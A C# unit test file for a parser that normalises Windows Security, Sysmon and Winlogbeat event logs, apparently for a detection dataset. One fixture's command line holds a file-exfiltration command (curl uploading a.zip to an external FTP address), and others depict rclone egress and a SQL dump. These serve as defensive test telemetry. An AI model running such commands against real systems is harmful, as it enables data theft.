using Det0131.Datasets.Readers.Windows;
using Det0131.Datasets.Tests.Readers.HostLogs;
using Det0131.Models.Events;

namespace Det0131.Datasets.Tests.Readers.Windows;

/// <summary>Records written by hand after the documented forms; expected values follow from the documentation of each form.</summary>
public sealed class WindowsParserTests
{
    private const string EvtxDump4688 = """
        {"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},
        "EventID":{"#attributes":{"Qualifiers":0},"#text":4688},"TimeCreated":{"#attributes":{"SystemTime":"2026-03-01T10:00:00.123456Z"}},"EventRecordID":77,"Execution":{"#attributes":{"ProcessID":4}},
        "Channel":"Security","Computer":"Host1.Corp.Local."},"EventData":{"SubjectUserSid":"S-1-5-21-1-2-3-1001","SubjectUserName":"Alice","SubjectDomainName":"CORP","NewProcessId":"0x1f4",
        "NewProcessName":"C:\\Tools\\Curl.EXE","ProcessId":"0x64","CommandLine":"curl -T a.zip ftp://203.0.113.9/","TargetUserSid":"S-1-5-18","TargetUserName":"SYSTEM","TargetDomainName":"NT AUTHORITY",
        "ParentProcessName":"C:\\Windows\\System32\\cmd.exe"}}}
        """;

    [Fact]
    public void Parse_EvtxDump_ReadsAttributesAndTheTargetUser()
    {
        var start = Assert.Single(Read(EvtxDump4688).Events);

        Assert.Equal(("windows.security", EventKind.ProcessStart, "host1.corp.local"), (start.Source, start.Kind, start.Host));
        Assert.Equal(Fixture.Micros("2026-03-01T10:00:00.123456Z"), start.TimeMicros);
        Assert.Equal(("curl.exe", @"C:\Tools\Curl.EXE", "cmd.exe"), (start.Process, start.ProcessPath, start.Parent));
        Assert.Equal(("500", "100", "Security/77"), (start.ProcessKey, start.ParentKey, start.RecordId));
        Assert.Equal((@"nt authority\system", UserClass.System), (start.User, start.UserClass));
        Assert.Equal(@"corp\alice>nt authority\system", start.PrivilegeChange);
    }

    [Fact]
    public void Parse_EvtxECmd_ReadsNamedDataArrays()
    {
        const string Data = """[{"@Name":"UtcTime","#text":"2024-10-22 15:35:44.1234567"},{"@Name":"ProcessGuid","#text":"ABCDEF01-0000-0000-0000-000000000001"},{"@Name":"Image","#text":"C:\\Windows\\System32\\curl.exe"},{"@Name":"TargetFilename","#text":"C:\\Temp\\dump.SQL"}]""";
        var escaped = Data.Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal);
        var system = Read("""{"Event":{"System":{"Provider":{"@Name":"Microsoft-Windows-Sysmon"},"EventID":"11","TimeCreated":{"@SystemTime":"2024-10-22 15:35:44.6124980"},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"PC"},"EventData":{"Data":DATA}}}""".Replace("DATA", Data, StringComparison.Ordinal));
        var payload = Read("""{"Payload":"{\"EventData\":{\"Data\":DATA}}","Channel":"Microsoft-Windows-Sysmon/Operational","Provider":"Microsoft-Windows-Sysmon","EventId":11,"ProcessId":4,"EventRecordId":"5","TimeCreated":"2024-10-22T15:35:44.6124980+00:00","Computer":"PC"}""".Replace("DATA", escaped, StringComparison.Ordinal));

        foreach (var file in new[] { Assert.Single(system.Events), Assert.Single(payload.Events) })
        {
            Assert.Equal((EventKind.FileAccess, ".sql", "curl.exe"), (file.Kind, file.FileExtension, file.Process));
            Assert.Equal(Fixture.Micros("2024-10-22T15:35:44.123456Z"), file.TimeMicros);
            Assert.Equal("abcdef01-0000-0000-0000-000000000001", file.ProcessKey);
        }
    }

    [Theory]
    [InlineData("""{"@timestamp":"2026-03-01T10:00:01.000Z","winlog":{"event_id":"22","channel":"Microsoft-Windows-Sysmon/Operational","computer_name":"pc.corp","record_id":9,"event_data":{"UtcTime":"2026-03-01 10:00:00.500","QueryName":"Example.COM.","QueryStatus":"0","Image":"C:\\a\\b.exe"}},"event":{"code":"22"},"host":{"name":"collector"}}""")]
    [InlineData("""{"@timestamp":"2026-03-01T10:00:01.000Z","winlog.event_id":22,"winlog.channel":"Microsoft-Windows-Sysmon/Operational","winlog.computer_name":"pc.corp","winlog.event_data.UtcTime":"2026-03-01 10:00:00.500","winlog.event_data.QueryName":"example.com","winlog.event_data.QueryStatus":"0","winlog.event_data.Image":"C:\\a\\b.exe"}""")]
    [InlineData("""{"@timestamp":"2026-03-01T10:00:00.500Z","event":{"code":"22","provider":"Microsoft-Windows-Sysmon"},"host":{"name":"pc.corp"},"process":{"executable":"C:\\a\\b.exe","pid":12},"dns":{"question":{"name":"example.com"}},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_data":{"QueryStatus":"0"}}}""")]
    public void Parse_Winlogbeat_NestedDottedOrMovedToEcs_GivesTheSameQuery(string record)
    {
        var query = Assert.Single(Read(record).Events);

        Assert.Equal((EventKind.DnsQuery, "example.com", "NOERROR", null), (query.Kind, query.DnsName, query.DnsResponse, query.DnsType));
        Assert.Equal(("pc.corp", "b.exe"), (query.Host, query.Process));
        Assert.Equal(Fixture.Micros("2026-03-01T10:00:00.500Z"), query.TimeMicros);
    }

    [Fact]
    public void Parse_EcsFlow_TakesUserAndDirectionFromTheSchema()
    {
        var flow = Assert.Single(Read("""{"@timestamp":"2026-03-01T10:00:00Z","event":{"code":"3","provider":"Microsoft-Windows-Sysmon"},"host":{"name":"pc"},"process":{"executable":"C:\\rclone.exe","entity_id":"{ABC}"},"user":{"domain":"CORP","name":"Bob"},"network":{"transport":"tcp","direction":"egress"},"source":{"ip":"10.0.0.5","port":50000},"destination":{"ip":"203.0.113.7","port":443,"domain":"G.Example"}}""").Events);

        Assert.Equal((@"corp\bob", HostSide.Source, "g.example"), (flow.User, flow.HostSide, flow.Domain));
        Assert.Equal(("tcp", 443, "abc"), (flow.Transport, flow.DestinationPort, flow.ProcessKey));
    }

    [Fact]
    public void Parse_DashEmptyAndUnknownProcess_AreAbsent()
    {
        var flow = Assert.Single(Read(Sysmon(3, """
            "ProcessGuid":"{00000000-0000-0000-0000-000000000000}","ProcessId":"0","Image":"<unknown process>","User":"-","Protocol":"udp","Initiated":"true","SourceIp":"10.0.0.5","SourceHostname":"-","SourcePort":"5353","DestinationIp":"10.0.0.6","DestinationHostname":"","DestinationPort":"5353"
            """)).Events);

        Assert.Equal((null, null, null, null), (flow.Process, flow.User, flow.Domain, flow.Application));
        Assert.Equal(("0", UserClass.Unknown), (flow.ProcessKey, flow.UserClass));
    }

    [Fact]
    public void Parse_SysmonStartByAnotherUser_TellsThePrivilegeChange()
    {
        var raised = Assert.Single(Read(Sysmon(1, """ "Image":"C:\\a.exe","CommandLine":"a","User":"NT AUTHORITY\\SYSTEM","ParentUser":"CORP\\Alice","ParentImage":"C:\\p.exe" """)).Events);
        var service = Assert.Single(Read(Sysmon(1, """ "Image":"C:\\a.exe","CommandLine":"a","User":"NT AUTHORITY\\NETWORK SERVICE","ParentUser":"NT AUTHORITY\\SYSTEM" """)).Events);

        Assert.Equal(@"corp\alice>nt authority\system", raised.PrivilegeChange);
        Assert.Null(service.PrivilegeChange);
    }

    [Theory]
    [InlineData("9003", "NXDOMAIN", Outcome.Failure)]
    [InlineData("9002", "SERVFAIL", Outcome.Failure)]
    [InlineData("9501", "NOERROR", Outcome.Failure)]
    [InlineData("1460", null, Outcome.Failure)]
    [InlineData("-", null, Outcome.Unknown)]
    public void Parse_QueryStatus_BecomesResponse(string status, string? response, Outcome outcome)
    {
        var query = Assert.Single(Read(Sysmon(22, $$""" "QueryName":"a.example","QueryStatus":"{{status}}","Image":"C:\\a.exe" """)).Events);

        Assert.Equal((response, outcome), (query.DnsResponse, query.Outcome));
    }

    [Theory]
    [InlineData("""{"EventID":1,"Channel":"System","SourceName":"Microsoft-Windows-Kernel-General","Hostname":"pc"}""", "event id 1, 3, 11 or 22 of another provider")]
    [InlineData("""{"EventID":4624,"Channel":"Security"}""", "event id 4624")]
    [InlineData("""{"EventID":1001,"Message":"\"EventID\":3"}""", "event id 1001")]
    [InlineData("""{"event_type":"registry","timestamp":131883570659490000}""", "event type not read")]
    public void Parse_OtherEvents_AreIgnoredByName(string record, string what) => Assert.Equal([what], Read(record).Ignored);

    [Theory]
    [InlineData("""{"EventID":3,"Channel":"Microsoft-Windows-Sysmon/Operational",""", "not valid JSON")]
    [InlineData("""{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\a.exe"}""", "time missing")]
    [InlineData("""{"EventID":5156,"Channel":"Security","TimeCreated":"2026-03-01T10:00:00Z","DestAddress":"nowhere"}""", "destination address missing")]
    [InlineData("""{"EventID":22,"Channel":"Microsoft-Windows-Sysmon/Operational","UtcTime":"2026-03-01 10:00:00.000","QueryName":"-"}""", "query name missing")]
    [InlineData("""{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","EventData":"neither JSON nor XML"}""", "event data not readable")]
    [InlineData("""{"name":"something else"}""", "event id missing")]
    [InlineData("[]", "not valid JSON")]
    public void Parse_UnusableRecord_IsRejectedByReason(string record, string reason) => Assert.Equal([reason], Read(record).Rejected);

    [Fact]
    public void Parse_RecordOfOneComputerAndChannel_HasOneIdentityInAnyFile()
    {
        var first = Assert.Single(Read(EvtxDump4688).Events);
        var again = Assert.Single(CollectingSink.Read(WindowsFormat.Format, "other/copy.json", EvtxDump4688).Events);
        var otherHost = Assert.Single(Read(EvtxDump4688.Replace("Host1", "Host2", StringComparison.Ordinal)).Events);

        Assert.Equal(first.Identity, again.Identity);
        Assert.NotEqual(UInt128.Zero, first.Identity);
        Assert.NotEqual(first.Identity, otherHost.Identity);
    }

    [Fact]
    public void Parse_DoubtfulStampsWithoutAnySysmonEvent_GoOutAsStampedAtTheEnd()
    {
        var sink = Read("""{"EventID":4688,"Channel":"Security","TimeCreated":"2026-03-01T10:00:00Z","@timestamp":"2026-03-01T10:00:00Z","NewProcessName":"C:\\a.exe"}""");

        Assert.Equal(1, sink.Held);
        Assert.Equal(Fixture.Micros("2026-03-01T10:00:00Z"), Assert.Single(sink.Events).TimeMicros);
    }

    [Fact]
    public void Parse_ManyDoubtfulStamps_HoldsABoundedNumber()
    {
        const string Record = """{"EventID":4688,"Channel":"Security","TimeCreated":"2026-03-01T10:00:00Z","@timestamp":"2026-03-01T10:00:00Z","NewProcessName":"C:\\a.exe"}""";
        var sink = CollectingSink.Read(WindowsFormat.Format, "f", Enumerable.Repeat(Record, 5000));

        Assert.Equal((4096, 5000), (sink.Held, sink.Events.Count));
    }

    private static CollectingSink Read(string record) => CollectingSink.Read(WindowsFormat.Format, "f.json", record);

    private static string Sysmon(int id, string data) =>
        $$"""{"EventID":{{id}},"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"pc","UtcTime":"2026-03-01 10:00:00.000",{{data}}}""";
}
